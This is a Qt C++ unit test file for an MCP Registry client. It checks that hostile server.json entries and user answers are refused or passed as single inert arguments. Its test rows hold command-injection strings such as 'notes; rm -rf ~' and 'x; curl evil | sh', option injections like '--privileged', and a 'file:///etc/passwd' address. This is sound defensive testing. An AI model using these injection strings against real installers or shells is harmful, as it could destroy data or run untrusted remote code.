#include "jsontest.h"

#include <mcp/registry/installplan.h>
#include <mcp/registry/serverjson.h>

#include <QTest>

using namespace Mcp;
using namespace Mcp::Registry;

// The MCP Registry's server.json and list answers (Mcp::Registry): what a real document holds
// is read; everything a hostile registry could send is refused, naming where. Declared before
// the documents: Qt 6.4's moc loses a class after a raw string literal holding "//".
class tst_Registry : public QObject
{
    Q_OBJECT

private slots:
    void readsPackages();
    void readsRemotes();
    void refusesWhatIsWrong_data();
    void refusesWhatIsWrong();
    void packageIdentity_data();
    void packageIdentity();
    void readsListPages();
    void refusesListAnswers_data();
    void refusesListAnswers();
    // From an entry and the person's answers to what is written: the form's fields, the exact
    // command line (a list; an answer is one argument whatever it holds), which values are
    // secrets, and each wrong answer refused with what is wrong.
    void formFields();
    void plansPackages();
    void plansRefuseWrongAnswers_data();
    void plansRefuseWrongAnswers();
    void plansRemotes();
};

namespace {

// A server with an npm package (arguments, an environment variable, a secret) and an image.
Json npmAndImage()
{
    return Json::parse(R"({
      "$schema": "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json",
      "name": "io.github.example/notes",
      "title": "Notes",
      "description": "Keeps notes in a folder.",
      "version": "2.3.1",
      "websiteUrl": "https://example.com/notes",
      "repository": {"url": "https://github.com/example/notes", "source": "github",
                     "subfolder": "server"},
      "icons": [{"src": "https://example.com/notes.png", "mimeType": "image/png",
                 "sizes": ["48x48"]},
                {"src": "http://example.com/plain.png"}],
      "packages": [
        {"registryType": "npm", "registryBaseUrl": "https://registry.npmjs.org",
         "identifier": "@example/notes-server", "version": "2.3.1",
         "transport": {"type": "stdio"},
         "packageArguments": [
           {"type": "positional", "valueHint": "notes_dir", "isRequired": true,
            "format": "filepath", "isRepeated": true},
           {"type": "named", "name": "--mode", "choices": ["read", "write"], "default": "read"}],
         "environmentVariables": [
           {"name": "NOTES_TOKEN", "isSecret": true, "isRequired": true,
            "description": "The token"},
           {"name": "LOG_LEVEL", "default": "info"}]},
        {"registryType": "oci", "identifier": "docker.io/example/notes:2.3.1",
         "transport": {"type": "stdio"},
         "runtimeArguments": [
           {"type": "named", "name": "--mount", "value": "type=bind,src={source},dst=/notes",
            "variables": {"source": {"format": "filepath", "isRequired": true}}}]}
      ]
    })");
}

} // namespace

void tst_Registry::readsPackages()
{
    const ReadResult read = readServer(npmAndImage());
    QVERIFY2(read.server, qPrintable(read.problem));
    const ServerJson &s = *read.server;
    QCOMPARE(s.name, QStringLiteral("io.github.example/notes"));
    QCOMPARE(s.title, QStringLiteral("Notes"));
    QCOMPARE(s.version, QStringLiteral("2.3.1"));
    QCOMPARE(s.repositoryUrl, QStringLiteral("https://github.com/example/notes"));
    QCOMPARE(s.repositorySubfolder, QStringLiteral("server"));
    // Only https pictures.
    QCOMPARE(s.icons.size(), 1);
    QCOMPARE(s.icons.at(0).sizes, QStringList{QStringLiteral("48x48")});
    QCOMPARE(s.packages.size(), 2);
    const Package &npm = s.packages.at(0);
    QCOMPARE(npm.registryType, QStringLiteral("npm"));
    QCOMPARE(npm.identifier, QStringLiteral("@example/notes-server"));
    QCOMPARE(npm.transport.type, QStringLiteral("stdio"));
    QCOMPARE(npm.packageArguments.size(), 2);
    QCOMPARE(npm.packageArguments.at(0).type, Argument::Type::Positional);
    QCOMPARE(npm.packageArguments.at(0).valueHint, QStringLiteral("notes_dir"));
    QCOMPARE(npm.packageArguments.at(0).format, Input::Format::FilePath);
    QVERIFY(npm.packageArguments.at(0).isRepeated);
    QCOMPARE(npm.packageArguments.at(1).type, Argument::Type::Named);
    QCOMPARE(npm.packageArguments.at(1).name, QStringLiteral("--mode"));
    QCOMPARE(npm.packageArguments.at(1).choices,
             (QStringList{QStringLiteral("read"), QStringLiteral("write")}));
    QCOMPARE(npm.environmentVariables.size(), 2);
    QVERIFY(npm.environmentVariables.at(0).isSecret);
    QVERIFY(npm.environmentVariables.at(0).isRequired);
    QCOMPARE(npm.environmentVariables.at(1).defaultValue, QStringLiteral("info"));
    const Package &image = s.packages.at(1);
    QCOMPARE(image.identifier, QStringLiteral("docker.io/example/notes:2.3.1"));
    QCOMPARE(image.runtimeArguments.at(0).variables.value(QStringLiteral("source")).format,
             Input::Format::FilePath);
}

void tst_Registry::readsRemotes()
{
    const ReadResult read = readServer(Json::parse(R"({
      "name": "com.example/weather", "description": "Weather.", "version": "1.0.0",
      "remotes": [{"type": "streamable-http", "url": "https://{host}/mcp",
                   "headers": [{"name": "Authorization", "isSecret": true, "isRequired": true,
                                "value": "Bearer {token}",
                                "variables": {"token": {"isSecret": true}}}],
                   "variables": {"host": {"default": "api.example.com"}}},
                  {"type": "sse", "url": "http://127.0.0.1:8080/sse"}]
    })"));
    QVERIFY2(read.server, qPrintable(read.problem));
    QCOMPARE(read.server->remotes.size(), 2);
    const Remote &remote = read.server->remotes.at(0);
    QCOMPARE(remote.transport.type, QStringLiteral("streamable-http"));
    QCOMPARE(remote.transport.url, QStringLiteral("https://{host}/mcp"));
    QCOMPARE(remote.variables.value(QStringLiteral("host")).defaultValue,
             QStringLiteral("api.example.com"));
    QCOMPARE(remote.transport.headers.size(), 1);
    QCOMPARE(remote.transport.headers.at(0).name, QStringLiteral("Authorization"));
    QVERIFY(remote.transport.headers.at(0).variables.value(QStringLiteral("token")).isSecret);
    QCOMPARE(read.server->remotes.at(1).transport.type, QStringLiteral("sse"));
}

void tst_Registry::refusesWhatIsWrong_data()
{
    QTest::addColumn<QString>("pointer");  // a JSON pointer into npmAndImage() to change
    QTest::addColumn<QByteArray>("value"); // the new value (JSON); "-" removes it
    QTest::addColumn<QString>("where");    // what the problem must name
    const auto row
            = [](const char *name, const char *pointer, const char *value, const char *where) {
                  QTest::newRow(name) << QString::fromLatin1(pointer) << QByteArray(value)
                                      << QString::fromLatin1(where);
              };
    row("no name", "/name", "-", "name: missing");
    row("name without namespace", "/name", R"("notes")", "name:");
    row("name with a space", "/name", R"("io.example/my notes")", "name:");
    row("name too long", "/name",
        "\"a/"
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"",
        "name:");
    row("description too long", "/description",
        R"("0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789x")",
        "description:");
    row("control character", "/title", R"("No\u0007tes")", "title: holds a control character");
    row("version latest", "/packages/0/version", R"("latest")", "packages[0]:");
    row("version range", "/packages/0/version", R"("^2.3.1")", "packages[0]:");
    row("version wildcard", "/packages/0/version", R"("2.x")", "packages[0]:");
    row("shell in identifier", "/packages/0/identifier", R"("notes; rm -rf ~")",
        "packages[0]: 'notes; rm -rf ~' is not an npm package name");
    row("option as identifier", "/packages/0/identifier", R"x("--eval=process.exit()")x",
        "packages[0]:");
    row("image with a space", "/packages/1/identifier", R"("docker.io/ex ample:1")",
        "packages[1]:");
    row("image with a command", "/packages/1/identifier", R"("alpine:3 sh -c id")", "packages[1]:");
    row("pypi with a slash", "/packages/0/registryType", R"("pypi")", "packages[0]:");
    row("bundle over http", "/packages/0",
        R"({"registryType": "mcpb", "identifier": "http://example.com/a.mcpb", "transport": {"type": "stdio"}})",
        "packages[0]: 'http://example.com/a.mcpb' is not an https download address");
    row("sha not hex", "/packages/0/fileSha256", R"("ABC")", "packages[0].fileSha256:");
    row("no transport", "/packages/0/transport", "-", "packages[0].transport: missing");
    row("unknown transport", "/packages/0/transport/type", R"("carrier-pigeon")",
        "packages[0].transport.type:");
    row("named without name", "/packages/0/packageArguments/1/name", "-",
        "packages[0].packageArguments[1].name: missing");
    row("positional without value", "/packages/0/packageArguments/0/valueHint", "-",
        "packages[0].packageArguments[0]:");
    row("unknown argument type", "/packages/0/packageArguments/0/type", R"("both")",
        "packages[0].packageArguments[0].type:");
    row("variable name with =", "/packages/0/environmentVariables/0/name", R"("A=B")",
        "packages[0].environmentVariables[0].name:");
    row("unknown format", "/packages/0/packageArguments/0/format", R"("date")",
        "packages[0].packageArguments[0].format:");
    row("bad variable name", "/packages/1/runtimeArguments/0/variables", R"({"a b": {}})",
        "packages[1].runtimeArguments[0].variables.a b:");
    row("website not http", "/websiteUrl", R"x("javascript:alert(1)")x", "websiteUrl:");
    row("packages not a list", "/packages", R"({"a": 1})", "packages: must be a list");
    row("a number for a string", "/version", "7", "version: must be a string");
}

void tst_Registry::refusesWhatIsWrong()
{
    QFETCH(QString, pointer);
    QFETCH(QByteArray, value);
    QFETCH(QString, where);
    Json document = npmAndImage();
    const Json::json_pointer at(pointer.toStdString());
    if (value == "-")
        document[at.parent_pointer()].erase(at.back());
    else
        document[at] = Json::parse(value.toStdString());
    const ReadResult read = readServer(document);
    QVERIFY(!read.server);
    QVERIFY2(read.problem.startsWith(where), qPrintable(read.problem));
}

void tst_Registry::packageIdentity_data()
{
    QTest::addColumn<QString>("type");
    QTest::addColumn<QString>("identifier");
    QTest::addColumn<QString>("version");
    QTest::addColumn<bool>("ok");
    const auto row = [](const char *type, const char *identifier, const char *version, bool ok) {
        QTest::addRow("%s %s %s", type, identifier, version)
                << QString::fromLatin1(type) << QString::fromUtf8(identifier)
                << QString::fromLatin1(version) << ok;
    };
    row("npm", "@modelcontextprotocol/server-memory", "2025.11.25", true);
    row("npm", "left-pad", "1.3.0", true);
    row("npm", "Upper", "1.0.0", false);
    row("npm", "@scope/", "1.0.0", false);
    row("npm", "a b", "1.0.0", false);
    row("npm", "left-pad", "1.0.0 && id", false);
    row("npm", "left-pad", ">=1", false);
    row("npm", "left-pad", "1.2.3-beta.1+build.5", true);
    row("pypi", "mcp-server-fetch", "2025.4.7", true);
    row("pypi", "mcp_server.fetch", "1", true);
    row("pypi", "-rf", "1", false);
    row("pypi", "mcp-server-fetch[extra]", "1", false);
    row("oci", "ghcr.io/owner/repo:v1.0.0", "", true);
    row("oci", "alpine", "", true);
    row("oci",
        "localhost:5000/a/"
        "b@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "", true);
    row("oci", "--privileged", "", false);
    row("oci", "Docker.io/a:1", "", false);
    row("nuget", "Example.Server", "1.0.0", true);
    row("nuget", "Example Server", "1.0.0", false);
    row("mcpb", "https://github.com/o/r/releases/download/v1/s.mcpb", "", true);
    row("mcpb", "file:///etc/passwd", "", false);
    // Plain http only to this machine (the download is checked against its SHA-256 anyway).
    row("mcpb", "http://127.0.0.1:8080/s.mcpb", "", true);
    row("mcpb", "http://localhost/s.mcpb", "", true);
    row("mcpb", "http://127.0.0.1.example.com/s.mcpb", "", false);
    row("mcpb", "http://10.0.0.1/s.mcpb", "", false);
    row("cargo", "anything; goes", "1.0.0", true); // read, never installed
}

void tst_Registry::packageIdentity()
{
    QFETCH(QString, type);
    QFETCH(QString, identifier);
    QFETCH(QString, version);
    QFETCH(bool, ok);
    const QString problem = checkPackageIdentity(type, identifier, version);
    QVERIFY2(problem.isEmpty() == ok, qPrintable(problem));
}

void tst_Registry::readsListPages()
{
    Json page = Json::parse(R"({"servers": [], "metadata": {"nextCursor": "abc:1", "count": 3}})");
    Json deprecated{{"server", npmAndImage()}};
    deprecated["_meta"]["io.modelcontextprotocol.registry/official"]
            = {{"status", "deprecated"},
               {"statusMessage", "Use notes2."},
               {"isLatest", false},
               {"publishedAt", "2026-01-02T03:04:05Z"}};
    page["servers"].push_back(deprecated);
    Json broken = npmAndImage();
    broken["packages"][0]["identifier"] = "x; curl evil | sh";
    page["servers"].push_back({{"server", broken}});
    page["servers"].push_back(42);
    QString problem;
    const std::optional<ListPage> read = readListPage(page, &problem);
    QVERIFY2(read, qPrintable(problem));
    QCOMPARE(read->nextCursor, QStringLiteral("abc:1"));
    QCOMPARE(read->servers.size(), 1);
    QCOMPARE(read->servers.at(0).status, QStringLiteral("deprecated"));
    QCOMPARE(read->servers.at(0).statusMessage, QStringLiteral("Use notes2."));
    QVERIFY(!read->servers.at(0).isLatest);
    QCOMPARE(read->skipped.size(), 2);
    QVERIFY2(read->skipped.at(0).startsWith(QLatin1String("servers[1]: packages[0]")),
             qPrintable(read->skipped.at(0)));
    QVERIFY(read->skipped.at(1).startsWith(QLatin1String("servers[2]")));
    // The last page has no cursor.
    const auto last
            = readListPage(Json::parse(R"({"servers": [], "metadata": {"count": 0}})"), &problem);
    QVERIFY(last && last->nextCursor.isEmpty());
}

void tst_Registry::refusesListAnswers_data()
{
    QTest::addColumn<QByteArray>("answer");
    QTest::newRow("not an object") << QByteArray("[1, 2]");
    QTest::newRow("no servers") << QByteArray(R"({"metadata": {}})");
    QTest::newRow("servers not a list") << QByteArray(R"({"servers": {"a": 1}})");
    QByteArray many = "{\"servers\": [";
    for (int i = 0; i <= MaxServersPerPage; ++i)
        many += i ? ",{}" : "{}";
    QTest::newRow("a page over the API's largest") << many + "]}";
    QTest::newRow("a cursor that is not one")
            << QByteArray(R"({"servers": [], "metadata": {"nextCursor": "a\nb"}})");
    QTest::newRow("a cursor of 2000 characters")
            << QByteArray(R"({"servers": [], "metadata": {"nextCursor": ")") + QByteArray(2000, 'c')
                       + "\"}}";
}

void tst_Registry::refusesListAnswers()
{
    QFETCH(QByteArray, answer);
    QString problem;
    QVERIFY(!readListPage(Json::parse(answer.toStdString()), &problem));
    QVERIFY(problem.startsWith(QLatin1String("the registry's answer")));
}

void tst_Registry::formFields()
{
    const ServerJson server = *readServer(npmAndImage()).server;
    QStringList keys;
    for (const Field &field : fieldsOf(server.packages.at(0)))
        keys << field.key + QLatin1Char('=') + field.label;
    QCOMPARE(keys,
             (QStringList{QStringLiteral("package:0=notes_dir"), QStringLiteral("package:1=--mode"),
                          QStringLiteral("env:NOTES_TOKEN=NOTES_TOKEN"),
                          QStringLiteral("env:LOG_LEVEL=LOG_LEVEL")}));
    QVERIFY(fieldsOf(server.packages.at(0)).at(0).repeated);
    // A fixed value is not asked; its variables are.
    const QList<Field> image = fieldsOf(server.packages.at(1));
    QCOMPARE(image.size(), 1);
    QCOMPARE(image.at(0).key, QStringLiteral("runtime:0/source"));
    QCOMPARE(image.at(0).input.format, Input::Format::FilePath);
}

void tst_Registry::plansPackages()
{
    const ServerJson server = *readServer(npmAndImage()).server;
    QString problem;
    const std::optional<Plan> npm = planPackage(
            server.packages.at(0),
            {{QStringLiteral("package:0"), QStringLiteral("/home/u/notes\n x; rm -rf ~")},
             {QStringLiteral("env:NOTES_TOKEN"), QStringLiteral("tok-123")}},
            &problem);
    QVERIFY2(npm, qPrintable(problem));
    QCOMPARE(npm->command, QStringLiteral("npx"));
    QCOMPARE(npm->runtime, QStringLiteral("npx"));
    QCOMPARE(npm->args,
             (QStringList{QStringLiteral("-y"), QStringLiteral("@example/notes-server@2.3.1"),
                          QStringLiteral("/home/u/notes"), QStringLiteral("x; rm -rf ~"),
                          QStringLiteral("--mode"), QStringLiteral("read")}));
    QCOMPARE(npm->env, (QList<QPair<QString, QString>>{
                               {QStringLiteral("NOTES_TOKEN"), QStringLiteral("tok-123")},
                               {QStringLiteral("LOG_LEVEL"), QStringLiteral("info")}}));
    QCOMPARE(npm->secretKeys, QStringList{QStringLiteral("env:NOTES_TOKEN")});
    QCOMPARE(npm->display(), QStringLiteral("npx -y @example/notes-server@2.3.1 /home/u/notes "
                                            "'x; rm -rf ~' --mode read"));

    const std::optional<Plan> image = planPackage(
            server.packages.at(1), {{QStringLiteral("runtime:0/source"), QStringLiteral("/srv/n")}},
            &problem);
    QVERIFY2(image, qPrintable(problem));
    QCOMPARE(image->command, QStringLiteral("docker"));
    QCOMPARE(image->args, (QStringList{QStringLiteral("run"), QStringLiteral("-i"),
                                       QStringLiteral("--rm"), QStringLiteral("--mount"),
                                       QStringLiteral("type=bind,src=/srv/n,dst=/notes"),
                                       QStringLiteral("docker.io/example/notes:2.3.1")}));

    Package pypi;
    pypi.registryType = QStringLiteral("pypi");
    pypi.identifier = QStringLiteral("mcp-server-fetch");
    pypi.version = QStringLiteral("2025.4.7");
    pypi.transport.type = QStringLiteral("stdio");
    KeyValueInput key;
    key.name = QStringLiteral("API_KEY");
    key.isSecret = true;
    pypi.environmentVariables << key;
    const std::optional<Plan> fetch = planPackage(pypi, {}, &problem);
    QVERIFY2(fetch, qPrintable(problem));
    QCOMPARE(fetch->command, QStringLiteral("uvx"));
    QCOMPARE(fetch->args, QStringList{QStringLiteral("mcp-server-fetch==2025.4.7")});
    QVERIFY(fetch->env.isEmpty()); // not required, not answered: left out
    QVERIFY(fetch->secretKeys.isEmpty());
}

void tst_Registry::plansRefuseWrongAnswers_data()
{
    QTest::addColumn<int>("package");
    QTest::addColumn<QString>("key");
    QTest::addColumn<QString>("answer");
    QTest::addColumn<QString>("problem");
    QTest::newRow("required left empty") << 0 << QStringLiteral("package:0") << QString()
                                         << QStringLiteral("notes_dir is required");
    QTest::newRow("not a choice") << 0 << QStringLiteral("package:1") << QStringLiteral("delete")
                                  << QStringLiteral("--mode must be one of read, write");
    QTest::newRow("control character")
            << 0 << QStringLiteral("package:0") << QStringLiteral("a\u001bb")
            << QStringLiteral("notes_dir holds a control character");
    QTest::newRow("required variable") << 1 << QStringLiteral("runtime:0/source") << QString()
                                       << QStringLiteral("source is required");
}

void tst_Registry::plansRefuseWrongAnswers()
{
    QFETCH(int, package);
    QFETCH(QString, key);
    QFETCH(QString, answer);
    QFETCH(QString, problem);
    const ServerJson server = *readServer(npmAndImage()).server;
    QMap<QString, QString> answers{{QStringLiteral("package:0"), QStringLiteral("/notes")},
                                   {QStringLiteral("env:NOTES_TOKEN"), QStringLiteral("t")},
                                   {QStringLiteral("runtime:0/source"), QStringLiteral("/n")}};
    answers[key] = answer;
    QString why;
    QVERIFY(!planPackage(server.packages.at(package), answers, &why));
    QCOMPARE(why, problem);
}

void tst_Registry::plansRemotes()
{
    const ReadResult read = readServer(Json::parse(R"({
      "name": "com.example/weather", "description": "Weather.", "version": "1.0.0",
      "remotes": [{"type": "streamable-http", "url": "https://{host}/mcp",
                   "headers": [{"name": "Authorization", "isRequired": true,
                                "value": "Bearer {token}",
                                "variables": {"token": {"isSecret": true, "isRequired": true}}}],
                   "variables": {"host": {"default": "api.example.com"}}}]
    })"));
    QVERIFY2(read.server, qPrintable(read.problem));
    const Remote &remote = read.server->remotes.at(0);
    QStringList keys;
    for (const Field &field : fieldsOf(remote))
        keys << field.key;
    QCOMPARE(keys, (QStringList{QStringLiteral("url/host"),
                                QStringLiteral("header:Authorization/token")}));
    QString problem;
    const std::optional<Plan> plan = planRemote(
            remote, {{QStringLiteral("header:Authorization/token"), QStringLiteral("s3cret")}},
            &problem);
    QVERIFY2(plan, qPrintable(problem));
    QCOMPARE(plan->url, QStringLiteral("https://api.example.com/mcp"));
    QCOMPARE(plan->headers, (QList<QPair<QString, QString>>{{QStringLiteral("Authorization"),
                                                             QStringLiteral("Bearer s3cret")}}));
    QVERIFY(plan->secretKeys.contains(QStringLiteral("header:Authorization")));
    // A host that makes no address is refused, as is a secret left out.
    QVERIFY(!planRemote(remote,
                        {{QStringLiteral("url/host"), QStringLiteral("evil.example/x y")},
                         {QStringLiteral("header:Authorization/token"), QStringLiteral("s")}},
                        &problem));
    QVERIFY2(problem.contains(QLatin1String("is not an address")), qPrintable(problem));
    QVERIFY(!planRemote(remote, {}, &problem));
    QCOMPARE(problem, QStringLiteral("token is required"));
}

QTEST_GUILESS_MAIN(tst_Registry)
#include "tst_registry.moc"
